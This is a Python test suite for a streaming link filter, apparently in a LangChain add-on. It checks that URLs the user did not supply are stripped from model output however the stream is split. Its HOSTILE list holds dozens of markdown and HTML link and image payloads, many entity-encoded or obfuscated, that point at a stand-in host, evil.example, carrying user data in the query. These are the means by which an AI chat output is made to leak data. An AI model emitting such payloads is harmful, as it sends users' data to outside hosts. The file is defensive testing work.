"""Links that the user did not supply do not survive, however the stream is cut and whatever renders it."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cogenesis_langchain.links import LinkFilter, strip_links

OK = "https://ok.example"
EVIL = "https://evil.example/?q=Dana"
ENTITY = "h&#116;tps:&#47;&#47;evil.example/?q=Dana"
HOSTILE = [
    f"See ![x]({EVIL}) now",
    f"See [the map]({EVIL}).",
    f"Go to {EVIL}, please",
    "Go to www.evil.example/Dana today",
    "A [word][1]\n\n[1]: //evil.example/Dana\nend",
    "An <https://evil.example/Dana> autolink",
    'An <img src="//evil.example/Dana"> image',
    "Odd [x](//evil.example/Dana) scheme",
    f"![a[b]c]({ENTITY})",
    f"![a\\]b]({ENTITY})",
    f"![a\nb]({ENTITY})",
    f"![{'a ' * 200}]({ENTITY})",
    f"[a]({ENTITY})",
    f"[r]\n\n[r]: {ENTITY}",
    f"![r]\n\n[r]:\n{ENTITY}\n'title'",
    f"![![a](x)]({ENTITY})",
    f"[![a](x)]({ENTITY})",
    "htt[](x)ps:/[](x)/evil.example/?q=Dana",
    f"[{EVIL}](x)",
    f"[a]{EVIL}(x)",
    f"[r]{EVIL}: /Dana\n\n[r]",
    f"!{EVIL}[a](x)",
    f"<{EVIL}",
    f"<{EVIL}>",
    "<img\nsrc='/Dana'>",
    f"<img\nsrc='{ENTITY}'>",
    "<input type=image src=/Dana>",
    "<table background=/Dana><tr><td>x</table>",
    "<</a <<img src=/Dana>",
    "<<https://evil.example/>img src=/Dana>",
    "<svg/onload=x> <!-- x --> <?x?> <![CDATA[x]]>",
    "See evil.example.com/?q=Dana or evil.example?q=Dana or evil.example:80/Dana#x",
    "See https:/</evil.example/Dana and evil.example</?q=Dana",
    "Write to <q@evil.example>",
    "Escaped https\\:\\/\\/evil.example\\/Dana and evil.example\\/Dana and www\\.evil.example",
    "Entities www&period;evil.example/Dana https&colon;&sol;&sol;evil.example evil&period;example/Dana",
    f"Upper HTTPS://EVIL.EXAMPLE/Dana, {OK.upper()}/Dana",
    f"[r]: {OK} {EVIL}\n\n[r]",
    f"More {OK}/Dana and {OK}?q=Dana and {OK}.evil.example/Dana and {OK}@evil.example/Dana",
    f"Glued {OK}(Dana) {OK}'Dana {OK})Dana {OK}[Dana]",
]
PROSE = [
    "a < b and 3 <4, R&D, AT&T, Note: this, [Name], 3:30, e.g. this/that, and/or, he/she, 1/2, 9/10",
    "Dear [[P1]], **Data:** the figures; File: none. Mail dana@firm.example, or visit firm.example!",
    "Node.js/React at 3.5/10 km/h, a.m./p.m., U.S./U.K., Mr./Mrs., Ph.D./M.D., v2.0/v2.1, firm.example?!",
    "1. One\n2. Two\n\n- [ ] open\n- [x] done\n\n| a | b |\n|---|---|\n\n```\n// a comment\n```\n> so",
    "日本語の文章です。Привет, мир! Grüße aus Köln. 评分是3.5分，谢谢",
]
LINKED = re.compile(
    r"(?<![a-z0-9])(?:(?:https?|ftp):/?/?\w|www\.\w)|//\w|\w\.(?!js\b)[a-z]{2,}(?::\d+)?[/?#]\w",
    re.IGNORECASE,
)
FORMATTING = {"p", "em", "strong", "code", "pre", "br", "ul", "ol", "li", "blockquote", "hr"}
FORMATTING |= {f"h{level}" for level in range(1, 7)}


class _Tags(HTMLParser):
    """The tags, attribute values and texts of rendered HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.values: list[str] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.values += [value or "" for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def rendered(text: str) -> _Tags:
    """What a renderer that lets HTML through makes of `text`."""
    markdown_it = pytest.importorskip("markdown_it")
    tags = _Tags()
    tags.feed(markdown_it.MarkdownIt("commonmark", {"html": True}).render(text))
    tags.close()
    return tags


def stripped(pieces: list[str], supplied: str = "") -> str:
    """The whole of what passes."""
    return "".join(strip_links(pieces, supplied))


def assert_inert(text: str) -> None:
    """No tag but those of plain text formatting, no attribute, and nothing that a linkifier takes up."""
    page = rendered(text)
    assert page.tags <= FORMATTING
    assert page.values == []
    for words in page.texts:
        assert not LINKED.search(re.sub(rf"{re.escape(OK)}(?=[.,;:!?*\\)\]}}>\"']*(?:[\s<]|\Z))", "", words))


@pytest.mark.parametrize("supplied", ["", f"Please put {OK} in."])
@pytest.mark.parametrize("text", HOSTILE)
def test_attacks_are_inert_at_every_cut(text: str, supplied: str) -> None:
    """No form loads or links anything once rendered, and no cut of the stream changes that."""
    whole = stripped([text], supplied)
    assert_inert(whole)
    for cut in range(len(text) + 1):
        assert stripped([text[:cut], text[cut:]], supplied) == whole
    assert stripped(list(text), supplied) == whole


def test_the_words_around_a_link_stay() -> None:
    """Only the target goes."""
    assert stripped([f"See [the map]({EVIL}). Then {EVIL}, please."]) == "See [the map] (). Then , please."


SYNTAX = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    "&",
    "#",
    ":",
    "/",
    "\\",
    "//",
    ".",
    "?",
    "'",
    '"',
    " ",
    "\n",
    "a",
    "é",
]
WORDS = ["https", "www.", EVIL, OK, "evil.example", "&#47;", "&lt;", "img src=x", "](", "[r]:", "js", "*"]


@given(st.lists(st.sampled_from(SYNTAX + WORDS), max_size=14).map("".join))
@example(f"]{EVIL}:")
def test_nothing_reassembles(text: str) -> None:
    """Whatever is put together from syntax and URLs is inert, and a second pass finds nothing to do."""
    out = stripped(list(text), OK)
    assert_inert(out)
    assert stripped([out], OK) == out


@given(st.lists(st.text(st.characters(max_codepoint=127), max_size=12), max_size=12))
@example(["https", ":", "//ok.example", "/x [a", "](", "x)"])
def test_the_cut_of_the_stream_does_not_matter(pieces: list[str]) -> None:
    """Fed whole or in pieces, the same ASCII text comes out."""
    assert stripped(pieces, OK) == stripped(["".join(pieces)], OK)


@pytest.mark.parametrize("text", PROSE)
def test_prose_is_unchanged(text: str) -> None:
    """Signs that only resemble links stay as they are, mail addresses and placeholders too."""
    assert stripped([text]) == stripped(list(text)) == text


@pytest.mark.parametrize(
    "url",
    [
        "https://party.example/rsvp?id=7&a=1&lt;=2",
        "www.party.example",
        "party.example/rsvp",
        "https://party.example/Zürich/plan",
        f"https://party.example/{'a' * 5000}",
    ],
)
def test_a_supplied_url_stays(url: str) -> None:
    """What the user wrote into the request may be in the answer, byte for byte."""
    text = f"Answer at {url}. Or [here]({url})! **{url}** <- {url}"
    assert stripped(list(text), f"put {url} in it") == text.replace("](", "] (")


def test_a_supplied_url_is_not_extended() -> None:
    """Text glued to a supplied URL is set apart, so that no linkifier reads it as part of the URL."""
    assert stripped([f"{OK}(Dana) {OK}谢谢 {OK}é.evil.example/Dana"], OK) == f"{OK} (Dana) {OK} 谢谢 {OK} é"
    assert stripped([f"{OK}/Dana"], OK) == ""


@pytest.mark.parametrize("text", ["см. пример.рф/?q=Dana тут", "см. https://пример.рф/путь/Dana тут"])
def test_hosts_in_other_scripts_are_removed(text: str) -> None:
    """An internationalised host with a path goes too, in any cut."""
    for cut in range(len(text) + 1):
        assert "Dana" not in stripped([text[:cut], text[cut:]])
    assert "Dana" not in stripped(list(text))


def test_a_finished_word_passes_at_once() -> None:
    """Only the last word is held back, and text in other scripts not at all."""
    links = LinkFilter("")
    assert links.feed("Dear") == ""
    assert links.feed(" all, come ") == "Dear all, come "
    assert links.feed("日本語") == "日本語"
    assert links.feed("です。") == "です。"
    assert links.close() == ""


def test_a_run_without_end_is_released_cleaned() -> None:
    """Neither memory nor time grows with a text without spaces, and nothing joins at the break."""
    started = time.process_time()
    for run in ("a", "/", "a.", "é.", "&a", "](", "<", "www.", "//a", "é//", "data:"):
        for end in (f"]({ENTITY})", "evil.example/?q=Dana"):
            text = run * 5000 + end
            pieces = [text[at : at + 7] for at in range(0, len(text), 7)]
            for out in (stripped([text]), stripped(pieces)):
                assert "](" not in out
                assert not re.search(r"example/\?q", out.replace("47;evil.", ""))
    assert time.process_time() - started < 20
    links = LinkFilter("")
    assert any(links.feed("abc") for _ in range(1400))


def test_the_source_is_closed_when_the_reader_stops() -> None:
    """A writer behind it lets go of its lock."""
    closed = []

    def pieces() -> Iterator[str]:
        try:
            yield from ("one ", "two ")
        finally:
            closed.append(True)

    stream = strip_links(pieces(), "")
    assert next(stream) == "one "
    stream.close()  # type: ignore[attr-defined]
    assert closed == [True]
